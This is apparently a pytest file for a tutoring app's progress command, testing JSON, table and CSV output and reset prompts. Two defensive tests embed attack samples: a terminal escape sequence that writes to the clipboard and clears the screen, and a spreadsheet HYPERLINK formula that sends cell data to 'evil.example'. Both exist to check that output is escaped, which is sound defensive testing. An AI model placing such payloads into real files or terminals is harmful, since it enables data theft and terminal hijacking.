"""`tutor progress`: table, JSON, CSV and reset, against a store under a temporary TUTOR_HOME."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tutor.cli import main
from tutor.progress import ProgressStore


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("TUTOR_HOME", str(tmp_path))
    with ProgressStore() as store:
        store.record_attempt("autograd", "w-grad", "-0.09", False, "too far", device="cpu",
                             torch_version="2.13.0")
        store.record_attempt("autograd", "w-grad", "-0.0898", True, 'right, "exactly"',
                             device="cuda:0", torch_version="2.13.0")
        store.record_hint("autograd", "w-grad")
        store.record_attempt("tensors", "rank", "2", True, "ok", device="cpu",
                             torch_version="2.13.0")
        store.complete_step("tensors", 0)
        store.set_position("tensors", 1)
    return tmp_path


def write_lesson(directory: Path, lesson_id: str, title: str, order: int) -> None:
    directory.mkdir(exist_ok=True)
    (directory / f"{order:02}-{lesson_id}.md").write_text(
        f"---\nid: {lesson_id}\ntitle: {title}\norder: {order}\nsummary: s\n---\n\n"
        "## One\n\nText.\n\n## Two\n\nMore text.\n", encoding="utf-8")


def test_json_summary(home, capsys):
    assert main(["progress", "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["path"] == str(home / "progress.sqlite3")
    assert report["saving"] is True and report["problem"] is None
    assert report["last_lesson"] == "tensors"
    lessons = {row["lesson"]: row for row in report["lessons"]}
    assert lessons["autograd"]["attempts"] == 2 and lessons["autograd"]["hints"] == 1
    assert lessons["autograd"]["first_try"] == 0 and lessons["autograd"]["quizzes_solved"] == 1
    assert lessons["tensors"]["first_try"] == 1 and lessons["tensors"]["steps_done"] == 1


def test_json_uses_course_titles_and_totals(home, capsys):
    lessons = home / "lessons"
    write_lesson(lessons, "tensors", "Tensors and shapes", 1)
    write_lesson(lessons, "dtypes", "Data types", 2)
    assert main(["progress", "--json", "--lessons", str(lessons)]) == 0
    rows = json.loads(capsys.readouterr().out)["lessons"]
    assert [(r["lesson"], r["title"], r["steps_total"]) for r in rows] == [
        ("tensors", "Tensors and shapes", 2), ("dtypes", "Data types", 2),
        ("autograd", "autograd", None)]
    assert rows[0]["steps_done"] == 1 and rows[1]["attempts"] == 0


def test_table(home, capsys):
    lessons = home / "lessons"
    write_lesson(lessons, "tensors", "Tensors and shapes", 1)
    assert main(["progress", "--lessons", str(lessons)]) == 0
    out = capsys.readouterr().out
    assert "Tensors and shapes" in out and "1/2" in out and "autograd" in out
    assert "Last lesson: Tensors and shapes, step 2" in out


def test_csv_shows_control_characters_escaped(home, capsys):
    attack = "\x1b]52;c;aGFja2VkLWNsaXA=\x07\x1b[2J"
    with ProgressStore() as store:  # a code answer's exception text lands in the message
        store.record_attempt("tensors", "code", f"raise E({attack!r})", False,
                             f"ValueError: {attack}", device="cpu", torch_version="t")
    assert main(["progress", "--csv"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert out.count("\\x1b]52;c;aGFja2VkLWNsaXA=\\x07") == 2  # the answer and the message


def test_csv_keeps_a_typed_formula_from_running_in_a_spreadsheet(home, capsys):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    with ProgressStore() as store:
        store.record_attempt("llm-basics", "context-name", formula, False, "Not quite.",
                             device="cpu", torch_version="t")
    assert main(["progress", "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[-1]["answer"] == "'" + formula
    assert rows[0]["answer"] == "-0.09"  # a number is left as typed


def test_csv_has_one_row_per_attempt(home, capsys):
    assert main(["progress", "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(r["lesson"], r["answer"], r["correct"]) for r in rows] == [
        ("autograd", "-0.09", "false"), ("autograd", "-0.0898", "true"), ("tensors", "2", "true")]
    assert rows[1]["message"] == 'right, "exactly"' and rows[1]["device"] == "cuda:0"
    assert rows[0]["time"].endswith("Z") and rows[0]["torch_version"] == "2.13.0"


def test_reset_one_lesson_with_yes(home, capsys):
    assert main(["progress", "--reset", "autograd", "--yes"]) == 0
    with ProgressStore() as store:
        assert [row["lesson"] for row in store.summary()] == ["tensors"]


def test_reset_all_with_yes(home):
    assert main(["progress", "--reset", "--yes"]) == 0
    with ProgressStore() as store:
        assert store.summary() == [] and store.attempts() == []


def test_reset_without_a_terminal_or_yes_refuses(home, capsys, monkeypatch):
    monkeypatch.setattr("sys.stdin", io.StringIO("y\n"))
    assert main(["progress", "--reset"]) == 1
    assert "--yes" in capsys.readouterr().err
    with ProgressStore() as store:
        assert len(store.attempts()) == 3


@pytest.mark.parametrize(("reply", "erased"), [("y\n", True), ("\n", False)])
def test_reset_asks_on_a_terminal(home, capsys, monkeypatch, reply, erased):
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    monkeypatch.setattr("sys.stdin", Terminal(reply))
    assert main(["progress", "--reset", "tensors"]) == (0 if erased else 1)
    assert "Erase the progress of lesson tensors?" in capsys.readouterr().out
    with ProgressStore() as store:
        assert (store.position("tensors") is None) == erased


def test_unwritable_home_is_reported(tmp_path, monkeypatch, capsys):
    blocker = tmp_path / "blocker"
    blocker.write_text("")
    monkeypatch.setenv("TUTOR_HOME", str(blocker))
    assert main(["progress", "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["saving"] is False and "not being saved" in report["problem"]
    assert main(["progress", "--reset", "--yes"]) == 1
    assert "not being saved" in capsys.readouterr().err
